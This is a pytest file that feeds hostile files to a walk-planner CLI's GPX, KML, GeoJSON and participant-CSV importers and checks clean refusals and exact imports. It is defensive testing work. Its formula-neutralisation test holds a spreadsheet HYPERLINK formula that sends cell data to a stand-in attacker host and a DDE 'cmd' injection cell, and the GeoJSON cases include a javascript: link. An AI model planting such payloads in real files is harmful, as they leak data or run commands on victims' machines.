"""Hostile files through the command line: every importer (GPX 1.0/1.1, KML, GeoJSON,
participants CSV) against every kind of bad value, encoding and special file. Each refusal
is one clear line and exit 2, and the database holds the same rows (walks, stops, legs,
people); good files still import exactly (points counted in and out).

The big matrices call the CLI's `main` in this process (13 ms a case, with any escaping
exception turned into a traceback on stderr, which `assert_refused` rejects); one case of
each kind, and every good file, goes through the real command line in its own process.
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import sqlite3
import subprocess
import traceback
import xml.etree.ElementTree as ET
from collections.abc import Callable
from contextlib import redirect_stderr, redirect_stdout
from io import StringIO
from pathlib import Path

import pytest
from icalendar import Calendar

from tests.faults.conftest import assert_app_still_draws, assert_refused, database_digest, run_cli
from walkplanner.cli import main

GPX_NS = {"1.0": "http://www.topografix.com/GPX/1/0", "1.1": "http://www.topografix.com/GPX/1/1"}
KML_NS = "http://www.opengis.net/kml/2.2"
BAD_NUMBERS = ["nan", "NaN", "inf", "-inf", "1e308", "-1e308", "1e400", "abc", "", "0x10", "91"]
BAD_LONGITUDES = ["181", "-180.0001", "nan", "Infinity"]
GOOD_WALK = "Good walk"
CONTROLS = "A\x01B\x08C\x0bD\x1fE\x7fF\x80G\x9fH\ufffeI\uffffJ"


# -- files made by the tests -------------------------------------------------------------


def track(count: int, lat: float = 48.85, lon: float = 2.34, step: float = 1e-4) -> list:
    return [(round(lat + i * step, 7), round(lon + i * step / 2, 7)) for i in range(count)]


def gpx(body: str, version: str = "1.1", declaration: str = '<?xml version="1.0"?>') -> str:
    return (
        f'{declaration}<gpx version="{version}" creator="t" xmlns="{GPX_NS[version]}">{body}</gpx>'
    )


def trk(*segments: list, name: str = "") -> str:
    inner = "".join(
        "<trkseg>" + "".join(f'<trkpt lat="{a}" lon="{o}"/>' for a, o in seg) + "</trkseg>"
        for seg in segments
    )
    return f"<trk>{f'<name>{name}</name>' if name else ''}{inner}</trk>"


def kml(placemarks: str, declaration: str = '<?xml version="1.0" encoding="UTF-8"?>') -> str:
    return (
        f'{declaration}<kml xmlns="{KML_NS}"><Document><name>K</name>{placemarks}</Document></kml>'
    )


def kml_line(coordinates: str) -> str:
    return f"<Placemark><name>route</name><LineString><coordinates>{coordinates}</coordinates></LineString></Placemark>"


def kml_point(name: str, coordinates: str, dwell: str | None = None) -> str:
    data = f'<ExtendedData><Data name="dwell_min"><value>{dwell}</value></Data></ExtendedData>'
    return (
        f"<Placemark><name>{name}</name>{data if dwell is not None else ''}"
        f"<Point><coordinates>{coordinates}</coordinates></Point></Placemark>"
    )


def feature(geometry: object, properties: object = None) -> dict:
    return {"type": "Feature", "geometry": geometry, "properties": properties or {}}


def line(points: list | None = None, **properties: object) -> dict:
    points = points if points is not None else [[o, a] for a, o in track(5)]
    return feature({"type": "LineString", "coordinates": points}, {"name": "G", **properties})


def point(coordinates: object, **properties: object) -> dict:
    return feature({"type": "Point", "coordinates": coordinates}, {"name": "P", **properties})


def collection(*features: object) -> str:
    return json.dumps({"type": "FeatureCollection", "features": list(features)})


# -- the database, compared row for row --------------------------------------------------


def rows_digest(data_dir: Path) -> str:
    """Every row of every table, read without writing: cheaper than a CLI run per case."""
    uri = f"file:{data_dir / 'walkplanner.sqlite'}?mode=ro"
    digest = hashlib.sha256()
    with sqlite3.connect(uri, uri=True) as db:
        tables = db.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name")
        for (table,) in tables.fetchall():
            for row in db.execute(f'SELECT * FROM "{table}" ORDER BY 1'):
                digest.update(repr(row).encode())
    return digest.hexdigest()


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder with one good walk and its people, shared by the refusal cases."""
    folder = tmp_path_factory.mktemp("library")
    source = folder / "good.gpx"
    source.write_text(gpx(trk(track(40), name="Good walk")), encoding="utf-8")
    data_dir = folder / "data"
    assert run_cli(data_dir, "import", str(source)).stdout.strip().isdigit()
    people = folder / "people.csv"
    people.write_text("Name,Status\nAnn,going\nBob,waitlist\n", encoding="utf-8")
    assert run_cli(data_dir, "participants", GOOD_WALK, "--import", str(people)).returncode == 0
    return data_dir


def cli_here(data_dir: Path, *args: str) -> subprocess.CompletedProcess:
    """The CLI's main in this process, reported like `run_cli`."""
    out, err = StringIO(), StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        try:
            code = main(["--data-dir", str(data_dir), "--offline", *args])
        except BaseException:  # a crash is what this reports
            traceback.print_exc()
            code = 1
    return subprocess.CompletedProcess(args, code, out.getvalue(), err.getvalue())


def refused_import(
    data_dir: Path, path: Path, *words: str, participants: bool = False, real: bool = False
) -> None:
    """Refused with one clear line and exit 2, and not one row changed."""
    before = rows_digest(data_dir)
    where = ("participants", GOOD_WALK) if participants else ("import",)
    args = (*where, *(("--import",) if participants else ()), str(path))
    assert_refused((run_cli if real else cli_here)(data_dir, *args), *words)
    assert rows_digest(data_dir) == before


def imported(data_dir: Path, path: Path) -> str:
    """The id of the walk the CLI made from `path`."""
    result = cli_here(data_dir, "import", str(path))
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


def written(tmp_path: Path, name: str, content: str | bytes, encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    if isinstance(content, str):
        content = content.encode(encoding)
    path.write_bytes(content)
    return path


# -- GPX ---------------------------------------------------------------------------------


@pytest.mark.parametrize("version", ["1.0", "1.1"])
@pytest.mark.parametrize("value", BAD_NUMBERS)
def test_a_bad_latitude_in_a_gpx_track_refuses_the_whole_file(
    library: Path, tmp_path: Path, version: str, value: str
) -> None:
    points = [(f"{a}", f"{o}") for a, o in track(500)]
    points[16] = (value, points[16][1])
    path = written(tmp_path, "bad.gpx", gpx(trk(points), version))
    refused_import(library, path, "bad.gpx")


@pytest.mark.parametrize("value", BAD_LONGITUDES)
def test_a_bad_longitude_names_the_track_point(library: Path, tmp_path: Path, value: str) -> None:
    points = list(track(30))
    points[9] = (points[9][0], value)
    path = written(tmp_path, "lon.gpx", gpx(trk(points)))
    words = ("point 10", "longitude") if value not in ("", "Infinity") else ()
    refused_import(library, path, *words)


def test_one_nan_in_a_500_point_track_says_which_point(library: Path, tmp_path: Path) -> None:
    points = list(track(500))
    points[16] = ("nan", points[16][1])
    path = written(tmp_path, "t.gpx", gpx(trk(points)))
    refused_import(library, path, "Track point 17 has latitude nan", real=True)
    assert_app_still_draws(library)


@pytest.mark.parametrize(
    "body",
    [
        '<wpt lat="nan" lon="2.3"><name>Cafe</name></wpt>' + trk(track(5)),
        '<wpt lat="48.8" lon="1e308"><name>Cafe</name></wpt>' + trk(track(5)),
        '<rte><rtept lat="48.8" lon="2.3"/><rtept lat="-95" lon="2.3"/></rte>',
        '<wpt lat="48.8" lon="2.3" ><type>meeting point</type></wpt><wpt lat="inf" lon="2"><type>meeting point</type></wpt>'
        + trk(track(5)),
        '<rte><rtept lat="48.8" lon="2.3"><extensions><wp:stay xmlns:wp="urn:walkplanner:gpx:1">'
        "9999999999999999999999</wp:stay></extensions></rtept></rte>" + trk(track(5)),
        '<rte><rtept lat="48.8" lon="2.3"><extensions><wp:stay xmlns:wp="urn:walkplanner:gpx:1">'
        "-5</wp:stay></extensions></rtept></rte>" + trk(track(5)),
        '<trk><trkseg><trkpt lon="2.3"/></trkseg></trk>',
        '<metadata><time>9999-12-31T23:59:59Z</time></metadata>' + trk(track(5)),
        '<metadata><extensions><wp:walk xmlns:wp="urn:walkplanner:gpx:1">{"headcount": Infinity}'
        "</wp:walk></extensions></metadata>" + trk(track(5)),
        '<metadata><extensions><wp:walk xmlns:wp="urn:walkplanner:gpx:1">{"date": "9999-01-01"}'
        "</wp:walk></extensions></metadata>" + trk(track(5)),
        '<metadata><extensions><wp:walk xmlns:wp="urn:walkplanner:gpx:1">{"pace_kmh": "fast"'
        "</wp:walk></extensions></metadata>" + trk(track(5)),
        '<metadata><extensions><wp:walk xmlns:wp="urn:walkplanner:gpx:1">[1, 2]'
        "</wp:walk></extensions></metadata>" + trk(track(5)),
        f"<metadata><name>{'x' * 5000}</name></metadata>" + trk(track(5)),
        "",
        "<trk><trkseg></trkseg></trk>",
    ],
    ids=[
        "waypoint-nan", "waypoint-1e308", "routepoint-lat-95", "meeting-inf", "stay-huge",
        "stay-negative", "missing-lat", "year-9999", "details-infinity", "details-year-9999",
        "details-broken-json", "details-a-list", "title-5000-chars", "no-points", "empty-segment",
    ],
)  # fmt: skip
def test_bad_gpx_values_are_refused(library: Path, tmp_path: Path, body: str) -> None:
    refused_import(library, written(tmp_path, "v.gpx", gpx(body)), "v.gpx")


# -- KML ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "coordinates",
    ["2.3,nan", "2.3,inf", "nan,48.8", "abc,48.8", "2.3", "2.3,48.8,0,5", "1e308,48.8",
     "2.3,91", "-181,48.8", ",", "2.3,-inf", "2.3,1e400"],
)  # fmt: skip
def test_bad_kml_line_coordinates_are_refused(
    library: Path, tmp_path: Path, coordinates: str
) -> None:
    text = kml(kml_line(f"2.34,48.85 2.35,48.86 {coordinates} 2.36,48.87"))
    refused_import(library, written(tmp_path, "l.kml", text), "l.kml")


@pytest.mark.parametrize(
    ("coordinates", "dwell"),
    [("2.3,nan", None), ("", None), ("2.35,48.86", "abc"), ("2.35,48.86", "-5"),
     ("2.35,48.86", "1e9"), ("2.35,48.86", "99999999")],
)  # fmt: skip
def test_bad_kml_points_are_refused(
    library: Path, tmp_path: Path, coordinates: str, dwell: str | None
) -> None:
    text = kml(kml_line("2.34,48.85 2.36,48.87") + kml_point("Cafe", coordinates, dwell))
    refused_import(library, written(tmp_path, "p.kml", text), "p.kml")


# -- GeoJSON: wrong JSON types at every level --------------------------------------------

GEOJSON_CASES = {
    "document-list": "[]",
    "document-string": '"FeatureCollection"',
    "document-null": "null",
    "document-number": "1e308",
    "features-object": '{"type": "FeatureCollection", "features": {}}',
    "features-string": '{"type": "FeatureCollection", "features": "x"}',
    "features-null": '{"type": "FeatureCollection", "features": null}',
    "features-empty": '{"type": "FeatureCollection", "features": []}',
    "feature-string": collection("x"),
    "feature-number": collection(1),
    "feature-list": collection([]),
    "geometry-list": collection(feature([])),
    "geometry-string": collection(feature("LineString")),
    "coordinates-string": collection(feature({"type": "LineString", "coordinates": "1,2"})),
    "coordinates-null": collection(feature({"type": "LineString", "coordinates": None})),
    "coordinates-object": collection(feature({"type": "LineString", "coordinates": {"a": 1}})),
    "position-short": collection(line([[2.3]])),
    "position-long": collection(line([[2.3, 48.8, 1, 2]])),
    "position-string-number": collection(line([[2.3, "48.8"], [2.4, 48.9]])),
    "position-null": collection(line([[2.3, None], [2.4, 48.9]])),
    "position-bool": collection(line([[True, 48.8], [2.4, 48.9]])),
    "position-object": collection(line([{"lon": 2.3, "lat": 48.8}, [2.4, 48.9]])),
    "lat-91": collection(line([[2.3, 91], [2.4, 48.9]])),
    "lon-minus-181": collection(line([[-181, 48.8], [2.4, 48.9]])),
    "lat-1e308": collection(line([[2.3, 1e308], [2.4, 48.9]])),
    "lat-NaN": collection(line([[2.3, 48.8], [2.4, 48.9]])).replace("48.9", "NaN", 1),
    "lon-Infinity": collection(line([[2.3, 48.8], [2.4, 48.9]])).replace("2.4", "Infinity", 1),
    "lon--Infinity": collection(line([[2.3, 48.8], [2.4, 48.9]])).replace("2.4", "-Infinity", 1),
    "multiline-not-lists": collection(feature({"type": "MultiLineString", "coordinates": [1, 2]})),
    "point-nan": collection(line(), point([2.3, 48.8])).replace("[2.3, 48.8]", "[2.3, NaN]"),
    "point-string": collection(line(), point("2.3,48.8")),
    "properties-list": collection(feature({"type": "Point", "coordinates": [2.3, 48.8]}, [1])),
    "properties-string": collection(feature({"type": "Point", "coordinates": [2.3, 48.8]}, "x")),
    "name-object": collection(line(), point([2.3, 48.8], name={"a": 1})),
    "name-list": collection(line(), point([2.3, 48.8], name=["a"])),
    "name-bool": collection(line(), point([2.3, 48.8], name=True)),
    "name-huge": collection(line(), point([2.3, 48.8], name="x" * 5000)),
    "note-huge": collection(line(), point([2.3, 48.8], note="x" * 200_001)),
    "dwell-string": collection(line(), point([2.3, 48.8], dwell_min="abc")),
    "dwell-inf-string": collection(line(), point([2.3, 48.8], dwell_min="inf")),
    "dwell-fraction": collection(line(), point([2.3, 48.8], dwell_min=1.5)),
    "dwell-bool": collection(line(), point([2.3, 48.8], dwell_min=True)),
    "dwell-1e308": collection(line(), point([2.3, 48.8], dwell_min=1e308)),
    "dwell-negative": collection(line(), point([2.3, 48.8], dwell_min=-1)),
    "dwell-list": collection(line(), point([2.3, 48.8], dwell_min=[5])),
    "headcount-string": collection(line(headcount="abc")),
    "headcount-1e308": collection(line(headcount=1e308)),
    "headcount-Infinity": collection(line(headcount=1)).replace('"headcount": 1', '"headcount": Infinity'),
    "headcount-negative": collection(line(headcount=-3)),
    "headcount-bool": collection(line(headcount=True)),
    "headcount-too-many": collection(line(headcount=20_000)),
    "capacity-zero": collection(line(capacity=0)),
    "capacity-string": collection(line(capacity="ten")),
    "pace-string": collection(line(pace_kmh="fast")),
    "pace-NaN": collection(line(pace_kmh=1)).replace('"pace_kmh": 1', '"pace_kmh": NaN'),
    "pace-zero": collection(line(pace_kmh=0)),
    "pace-null": collection(line(pace_kmh=None)),
    "date-year-0": collection(line(date="0000-01-01")),
    "date-year-9999": collection(line(date="9999-06-01")),
    "date-year-1899": collection(line(date="1899-12-31")),
    "date-nonsense": collection(line(date="2026-13-40")),
    "date-number": collection(line(date=20260101)),
    "time-25h": collection(line(start_time="25:00")),
    "timezone-unknown": collection(line(timezone="Mars/Olympus")),
    "timezone-number": collection(line(timezone=5)),
    "follow-streets-string": collection(line(follow_streets="yes")),
    "link-javascript": collection(line(link="javascript:alert(1)")),
    "title-object": collection(line(title={"a": 1})),
    "nesting-10000": '{"type": "FeatureCollection", "features": ' + "[" * 10_000 + "]" * 10_000 + "}",
    "nesting-objects-10000": '{"features": ' + '{"a": ' * 10_000 + "1" + "}" * 10_001,
    "headcount-5000-digits": collection(line(headcount=1)).replace('"headcount": 1', '"headcount": ' + "9" * 5000),
    "coordinate-5000-digits": collection(line(), point([2.3, 48.8])).replace("2.3", "2" * 5000, 1),
    "dwell-4301-digits": collection(line(), point([2.3, 48.8], dwell_min=1)).replace('"dwell_min": 1', '"dwell_min": -' + "1" * 4301),
    "top-level-5000-digits": "[" + "7" * 5000 + "]",
    "truncated": collection(line())[:-25],
    "trailing-garbage": collection(line()) + "]]",
}  # fmt: skip


@pytest.mark.parametrize("case", GEOJSON_CASES)
def test_bad_geojson_is_refused(library: Path, tmp_path: Path, case: str) -> None:
    refused_import(library, written(tmp_path, "g.geojson", GEOJSON_CASES[case]), "g.geojson")


def test_deep_geojson_is_refused_with_a_message_and_the_app_still_draws(
    library: Path, tmp_path: Path
) -> None:
    before = database_digest(library)
    text = GEOJSON_CASES["nesting-10000"]
    refused_import(library, written(tmp_path, "deep.json", text), "too deeply", real=True)
    assert database_digest(library) == before
    assert_app_still_draws(library)


# -- encodings ---------------------------------------------------------------------------

LATIN = gpx(
    trk(track(3), name="Café crème"), declaration='<?xml version="1.0" encoding="ISO-8859-1"?>'
)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("latin1.gpx", LATIN.encode("latin-1")),
        ("cp1252.gpx", LATIN.replace("ISO-8859-1", "windows-1252").encode("cp1252")),
        ("utf16.gpx", LATIN.replace("ISO-8859-1", "UTF-16").encode("utf-16")),
        ("utf16be.gpx", b"\xfe\xff" + LATIN.replace("ISO-8859-1", "UTF-16").encode("utf-16-be")),
        ("utf8bom.gpx", b"\xef\xbb\xbf" + LATIN.replace("ISO-8859-1", "UTF-8").encode()),
        ("bomwins.gpx", b"\xef\xbb\xbf" + LATIN.encode()),
        ("utf32.gpx", LATIN.replace("ISO-8859-1", "UTF-32").encode("utf-32")),
        ("utf16.kml", kml(kml_line("2.34,48.85 2.35,48.86"), '<?xml version="1.0" encoding="UTF-16"?>').replace("<name>K<", "<name>Café crème<").encode("utf-16")),
        ("latin1.kml", kml(kml_line("2.34,48.85 2.35,48.86"), '<?xml version="1.0" encoding="ISO-8859-1"?>').replace("<name>K<", "<name>Café crème<").encode("latin-1")),
        ("bom.geojson", b"\xef\xbb\xbf" + collection(line(title="Café crème")).encode()),
        ("utf16.geojson", collection(line(title="Café crème")).encode("utf-16")),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_declared_encodings_and_boms_are_honoured(
    data_dir: Path, tmp_path: Path, name: str, content: bytes
) -> None:
    result = cli_here(data_dir, "import", str(written(tmp_path, name, content)))
    assert result.returncode == 0, result.stderr
    shown = json.loads(cli_here(data_dir, "show", result.stdout.strip(), "--json").stdout)
    assert shown["title"] == "Café crème"


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("undeclared-latin1.gpx", LATIN.replace(' encoding="ISO-8859-1"', "").encode("latin-1"), ("utf-8", "0xE9")),
        ("wrong-declaration.gpx", LATIN.replace("ISO-8859-1", "UTF-8").encode("latin-1"), ("utf-8",)),
        ("unknown-encoding.gpx", LATIN.replace("ISO-8859-1", "klingon").encode(), ("klingon",)),
        ("latin1.geojson", '{"features": [], "title": "Café"}'.encode("latin-1"), ("utf-8",)),
        ("half-utf16.gpx", LATIN.replace("ISO-8859-1", "UTF-16").encode("utf-16")[:-1], ()),
    ],
)  # fmt: skip
def test_text_in_the_wrong_encoding_is_refused(
    library: Path, tmp_path: Path, name: str, content: bytes, words: tuple[str, ...]
) -> None:
    refused_import(library, written(tmp_path, name, content), name, *words)


# -- truncated, empty, binary and special files ------------------------------------------

GOOD_FILES = {
    "gpx": gpx(trk(track(50))),
    "kml": kml(kml_line(" ".join(f"{o},{a}" for a, o in track(50)))),
    "geojson": collection(line()),
}
BINARY = random.Random(13).randbytes(4096)


@pytest.mark.parametrize("kind", ["gpx", "kml", "geojson", "json"])
@pytest.mark.parametrize("damage", ["truncated", "empty", "binary", "nul-bytes"])
def test_truncated_empty_and_binary_files_are_refused(
    library: Path, tmp_path: Path, kind: str, damage: str
) -> None:
    good = GOOD_FILES.get(kind, GOOD_FILES["geojson"]).encode()
    content = {
        "truncated": good[: len(good) // 2],
        "empty": b"",
        "binary": BINARY,
        "nul-bytes": good[:40] + b"\0" * 10 + good[40:],
    }[damage]
    refused_import(library, written(tmp_path, f"f.{kind}", content), f"f.{kind}")


def special(tmp_path: Path, kind: str, name: str) -> Path:
    path = tmp_path / name
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "dev-zero":
        path.symlink_to("/dev/zero")
    elif kind == "directory":
        path.mkdir()
    elif kind == "dangling-symlink":
        path.symlink_to(tmp_path / "nowhere")
    return path


SPECIAL = ["fifo", "dev-zero", "directory", "missing", "dangling-symlink"]


@pytest.mark.parametrize("kind", SPECIAL)
@pytest.mark.parametrize("suffix", ["gpx", "geojson"])
def test_only_regular_files_are_read(library: Path, tmp_path: Path, kind: str, suffix: str) -> None:
    path = special(tmp_path, kind, f"s.{suffix}")
    refused_import(library, path, "s." + suffix)


@pytest.mark.parametrize("kind", SPECIAL)
def test_participants_read_only_regular_files(library: Path, tmp_path: Path, kind: str) -> None:
    refused_import(library, special(tmp_path, kind, "p.csv"), "p.csv", participants=True)


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "directory"])
def test_a_pipe_or_a_device_never_holds_the_real_cli(
    library: Path, tmp_path: Path, kind: str
) -> None:
    refused_import(library, special(tmp_path, kind, "z.gpx"), "not a regular file", real=True)


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
def test_an_unreadable_file_is_refused(library: Path, tmp_path: Path) -> None:
    path = written(tmp_path, "locked.gpx", GOOD_FILES["gpx"])
    path.chmod(0)
    refused_import(library, path, "locked.gpx", "permission")


def test_an_unknown_suffix_is_refused(library: Path, tmp_path: Path) -> None:
    refused_import(library, written(tmp_path, "walk.txt", GOOD_FILES["gpx"]), "walk.txt")


# -- participants CSV --------------------------------------------------------------------

CSV_CASES = {
    "unclosed-quote": b'Name,Note\nAnn,hi\n"Bob,x\n' + b"".join(b"P%d,n\n" % i for i in range(10)),
    "quote-closing-rows-later": b'Name,Note\n"Ann\nBob\nCid",x\n',
    "nul-bytes": b"Name\nAnn\x00\nBob\n",
    "junk-bytes": b"Name\n\x81\x8d\x8f\x90\x9d\n",
    "cell-128kb": b"Name,Note\nAnn," + b"x" * (128 * 1024 + 10) + b"\n",
    "name-2000": b"Name\n" + b"x" * 2000 + b"\n",
    "note-200k": b"Name,Note\nAnn," + b"y" * 120_000 + b"\n",
    "no-name-column": b"Email,Phone\na@b.c,1\n",
    "empty": b"",
    "blank-lines": b"\n\n\r\n",
    "binary": BINARY,
    "utf16-without-bom": "Name\nAnn\n".encode("utf-16-le"),
    "utf16-bom-truncated": "Name\nAnn\n".encode("utf-16")[:-1],
    "too-many-people": b"Name\n" + b"".join(b"P%d\n" % i for i in range(10_001)),
}


@pytest.mark.parametrize("case", CSV_CASES)
def test_bad_participant_csv_is_refused_whole(library: Path, tmp_path: Path, case: str) -> None:
    path = written(tmp_path, "p.csv", CSV_CASES[case])
    refused_import(library, path, "p.csv", participants=True)


def test_an_unclosed_quote_names_its_line_and_the_app_still_draws(
    library: Path, tmp_path: Path
) -> None:
    path = written(tmp_path, "q.csv", CSV_CASES["unclosed-quote"])
    refused_import(library, path, "line 3", "quote", participants=True, real=True)
    assert_app_still_draws(library)


@pytest.mark.parametrize(
    ("content", "names"),
    [
        ("Nom\tStatut\r\nChloé\toui\r\nZoë\tattente\r\n".encode("utf-16"), ["Chloé", "Zoë"]),
        ("Name;Note\r\nChloé;café\r\n".encode("cp1252"), ["Chloé"]),
        ("\ufeffName,Note\nRenée,x\n".encode(), ["Renée"]),
        (b"Name\nA\x01nn\x7f\n", ["Ann"]),
    ],
    ids=["excel-utf16-tabs", "cp1252", "utf8-bom", "control-characters"],
)
def test_spreadsheet_encodings_import(
    data_dir: Path, tmp_path: Path, content: bytes, names: list[str]
) -> None:
    walk = imported(data_dir, written(tmp_path, "walk.gpx", GOOD_FILES["gpx"]))
    people = written(tmp_path, "p.csv", content)
    result = cli_here(data_dir, "participants", walk, "--import", str(people))
    assert result.returncode == 0, result.stderr
    back = tmp_path / "back.csv"
    assert cli_here(data_dir, "participants", walk, "--export", str(back)).returncode == 0
    rows = back.read_text(encoding="utf-8-sig").splitlines()[1:]
    assert [row.split(",")[0] for row in rows] == names


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)",
            "-2+3", "\t=1+1", "\r=1+1"]  # fmt: skip


def test_formulas_are_neutralised_on_export_and_come_back_equal(
    data_dir: Path, tmp_path: Path
) -> None:
    import csv
    import io

    walk = imported(data_dir, written(tmp_path, "walk.gpx", GOOD_FILES["gpx"]))
    rows = [["Name", "Contact", "Note"]]
    rows += [[f"Walker {i}", formula, formula] for i, formula in enumerate(FORMULAS)]
    rows += [["=1+1", "+33 6 12 34 56 78", "O'Neil"]]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    people = written(tmp_path, "p.csv", out.getvalue())
    assert cli_here(data_dir, "participants", walk, "--import", str(people)).returncode == 0
    exported = tmp_path / "out.csv"
    assert cli_here(data_dir, "participants", walk, "--export", str(exported)).returncode == 0
    cells = [
        cell
        for row in csv.reader(io.StringIO(exported.read_text(encoding="utf-8-sig")))
        for cell in row
    ]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=1+1" in cells and "'+33 6 12 34 56 78" in cells and "O'Neil" in cells
    first = cli_here(data_dir, "show", walk, "--json").stdout
    assert cli_here(data_dir, "participants", walk, "--import", str(exported)).returncode == 0
    again = tmp_path / "again.csv"
    assert cli_here(data_dir, "participants", walk, "--export", str(again)).returncode == 0
    assert again.read_bytes() == exported.read_bytes()
    assert cli_here(data_dir, "show", walk, "--json").stdout == first


# -- control characters: in through every importer, out through every exporter -----------


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("c.geojson", lambda: collection(line(title=CONTROLS + "\ud800"), point([2.34, 48.85], name=CONTROLS, note="x\ud800y\x00z\nline two"))),
        ("c.gpx", lambda: gpx("<metadata><name>E\x7fF\x80G\x9fH</name></metadata>" + trk(track(5)))),
    ],
    ids=["geojson", "gpx-c1"],
)  # fmt: skip
def test_control_characters_are_stripped_and_every_export_parses(
    data_dir: Path, tmp_path: Path, name: str, make: Callable[[], str]
) -> None:
    path = written(tmp_path, name, make().encode("utf-8", "surrogatepass"))
    walk = imported(data_dir, path)
    shown = json.loads(cli_here(data_dir, "show", walk, "--json").stdout)
    texts = [
        shown["title"],
        *(s["name"] for s in shown["stops"]),
        *(s["note"] for s in shown["stops"]),
    ]
    for text in texts:
        assert not [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F
                    or 0xD800 <= ord(c) <= 0xDFFF or c in "\ufffe\uffff"], repr(text)  # fmt: skip
    for kind in ("gpx", "kml", "geojson", "ics"):
        out = tmp_path / f"out.{kind}"
        assert cli_here(data_dir, "export", kind, walk, "--out", str(out)).returncode == 0
        data = out.read_bytes()
        if kind in ("gpx", "kml"):
            ET.fromstring(data)
        elif kind == "geojson":
            json.loads(data.decode("utf-8"))
        else:
            Calendar.from_ical(data)
        back = cli_here(data_dir, "import", str(out)) if kind != "ics" else None
        assert back is None or back.returncode == 0, back.stderr


# -- good files import exactly -----------------------------------------------------------


def multi_track(version: str, gap_deg: float) -> tuple[str, int]:
    """Four tracks of 871 points in all, two waypoints on inner track points."""
    sizes = (300, 200, 250, 121)
    tracks, points, start = [], [], (48.85, 2.34)
    for size in sizes:
        part = track(size, *start)
        tracks.append(trk(part[: size // 2], part[size // 2 :]))
        points += part
        start = (part[-1][0] + gap_deg, part[-1][1] + gap_deg / 2)
    waypoints = "".join(
        f'<wpt lat="{points[i][0]}" lon="{points[i][1]}"><name>W{i}</name></wpt>'
        for i in (120, 700)
    )
    return gpx(waypoints + "".join(tracks), version), len(points)


@pytest.mark.parametrize("version", ["1.0", "1.1"])
def test_a_four_track_gpx_keeps_every_point_through_the_cli(
    data_dir: Path, tmp_path: Path, version: str
) -> None:
    text, count = multi_track(version, gap_deg=1e-4)  # ~11 m: one walk, a paused recording
    assert count == 871
    result = run_cli(data_dir, "import", str(written(tmp_path, "four.gpx", text)))
    assert result.returncode == 0, result.stderr
    shown = json.loads(run_cli(data_dir, "show", result.stdout.strip(), "--json").stdout)
    assert shown["route_points"] == 871
    assert [s["name"] for s in shown["stops"]] == ["Start", "W120", "W700", "End"]


def test_gaps_between_tracks_are_legs_of_their_own(data_dir: Path, tmp_path: Path) -> None:
    text, count = multi_track("1.1", gap_deg=0.01)  # ~1 km between tracks
    result = run_cli(data_dir, "import", str(written(tmp_path, "gaps.gpx", text)))
    assert result.returncode == 0, result.stderr
    shown = json.loads(run_cli(data_dir, "show", result.stdout.strip(), "--json").stdout)
    assert shown["route_points"] == count
    names = [s["name"] for s in shown["stops"]]
    assert names == ["Start", "W120", "End of part 1", "Start of part 2", "End of part 2",
                     "Start of part 3", "W700", "End of part 3", "Start of part 4", "End"]  # fmt: skip
    assert "no track" in shown["stops"][2]["note"]
